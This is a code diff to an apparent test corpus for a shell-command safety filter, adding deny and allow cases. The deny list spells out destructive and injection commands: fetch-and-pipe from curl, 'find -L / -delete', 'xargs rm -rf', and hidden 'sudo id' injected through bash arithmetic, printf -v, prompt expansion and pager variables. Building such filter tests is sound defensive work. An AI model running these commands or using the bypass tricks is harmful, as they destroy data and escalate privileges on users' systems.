@@ -80,10 +80,10 @@ export const CORPUS: CorpusEntry[] = [
     "node --import='data:text/javascript,require(\"child_process\").execSync(\"curl x\")' f.js", "git -c pager.log='curl x' log"),
   ...deny("default", "curl x | unshare -r", "curl x | script -q /dev/null", "curl x | perl -e 'system(\"python3\")'", "curl x | ed f", "curl x | vim -es f",
     "bash /dev/fd/3 3<<'EOF'\nsudo id\nEOF", "ed f <<'EOF'\n!sudo id\nEOF", "find -L / -delete", "echo / | xargs rm -rf", "git submodule foreach --quiet 'sudo id'",
-    "git rebase -x'sudo id' HEAD~1", "x='a[$(sudo id)]'; echo $((x))", "printf -v 'a[$(sudo id)]' x", "x='$(sudo id)'; echo \"${x@P}\"", "let x",
-    "declare -i n=x", "bash5 -c 'sudo id'", "curl x | deno run -", "GIT_CONFIG_GLOBAL=./cfg git log", "CDPATH=/ cd etc && rm -rf x",
+    "git rebase -x'sudo id' HEAD~1", "x='a[$(sudo id)]'; echo $((x))", "printf -v 'a[$(sudo id)]' x", "x='$(sudo id)'; echo \"${x@P}\"", "read x <<< 'a[$(sudo id)]'; echo $((x))",
+    "declare -i n='a[$(sudo id)]'", "bash5 -c 'sudo id'", "curl x | deno run -", "GIT_CONFIG_GLOBAL=./cfg git log", "CDPATH=/ cd etc && rm -rf x",
     "read GIT_PAGER <<< 'sudo id'; export GIT_PAGER; git log", "printf -v PAGER 'sudo id'; export PAGER; man ls", "GIT_PAGER='sudo id'; export GIT_PAGER; git log"),
-  ...allow("echo $((1 + 2))", "printf '%s\\n' \"$HOME\"", "declare -i n=5", "export CI=1 && npm test",
+  ...allow("echo $((1 + 2))", "i=0; i=$((i+1)); echo $i", "let n=n+1", "printf '%s\\n' \"$HOME\"", "declare -i n=5", "export CI=1 && npm test",
     "sed -i 's/foo/bar/g' src/a.ts", "find . -type d -name __pycache__ -exec rm -rf {} +", "find . -name '*.pyc' | xargs rm -f", "sed -e 's/a/b/' -e 's/c/d/' f",
     "vim -c 'wq' f", "git -c pager.log=less log -1"),
 ];
